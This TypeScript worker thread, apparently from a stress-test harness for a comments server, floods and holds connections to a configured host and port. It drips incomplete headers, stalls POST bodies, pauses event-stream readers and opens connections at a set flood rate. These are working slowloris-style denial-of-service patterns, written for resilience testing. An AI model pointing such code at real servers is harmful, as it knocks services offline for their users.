import { connect, type Socket } from 'node:net'
import { parentPort, workerData } from 'node:worker_threads'
import { COUNTS, type AttackWorkerData, type Count } from './attackers.js'

/** A thread that holds and floods one port with connections, as somebody would who means harm. See Attackers. */

const OPENING_MS = 10
/** Opened in each turn, of each kind: as fast as the server's backlog takes them. */
const OPENED_EACH_TURN = 50

const { host, port, sources, floodSource, headers, bodies, deaf, floodRate, videos, memory } = workerData as AttackWorkerData
const counts = new Int32Array(memory)
const dripping = new Set<Socket>()
/** Of each kind, those that are open or being opened. */
const wanted: Record<'headers' | 'bodies' | 'deaf', { readonly most: number; open: number }> = { headers: { most: headers, open: 0 }, bodies: { most: bodies, open: 0 }, deaf: { most: deaf, open: 0 } }
let next = 0
let owed = 0

const opening = setInterval(() => {
  for (const kind of ['headers', 'bodies', 'deaf'] as const) {
    const each = wanted[kind]
    for (let i = 0; i < OPENED_EACH_TURN && each.open < each.most; i++) hold(kind)
  }
  for (owed += (floodRate * OPENING_MS) / 1000; owed >= 1; owed--) open(floodSource, 'flood')
}, OPENING_MS)

const drips = setInterval(() => {
  for (const socket of dripping) socket.write('a')
}, 1_000)

parentPort!.once('message', () => {
  clearInterval(opening)
  clearInterval(drips)
  setImmediate(() => process.exit())
})

function hold(kind: 'headers' | 'bodies' | 'deaf'): void {
  const video = `bench-${next % videos}`
  const each = wanted[kind]
  each.open++
  const socket = open(sources[next++ % sources.length]!, kind, () => each.open--)
  if (kind === 'deaf') {
    socket.pause()
    socket.write(`GET /comments/${video} HTTP/1.1\r\nhost: x\r\naccept: text/event-stream\r\n\r\n`)
    return
  }
  socket.write(kind === 'headers' ? `GET /comments/${video} HTTP/1.1\r\nhost: x\r\nx-slow: ` : `POST /comments/${video} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 4000\r\n\r\n{"content":"`)
  dripping.add(socket)
  socket.once('close', () => dripping.delete(socket))
}

function open(localAddress: string, kind: Exclude<Count, 'opened' | 'closed'>, left?: () => void): Socket {
  const socket = connect({ host, port, localAddress })
  let connected = false
  if (kind !== 'deaf') socket.resume()
  socket.on('error', () => {})
  socket.once('connect', () => {
    connected = true
    add(kind, 1)
    add('opened', 1)
  })
  socket.once('close', () => {
    left?.()
    if (!connected) return
    add(kind, -1)
    add('closed', 1)
  })
  return socket
}

function add(count: Count, amount: number): void {
  Atomics.add(counts, COUNTS.indexOf(count), amount)
}
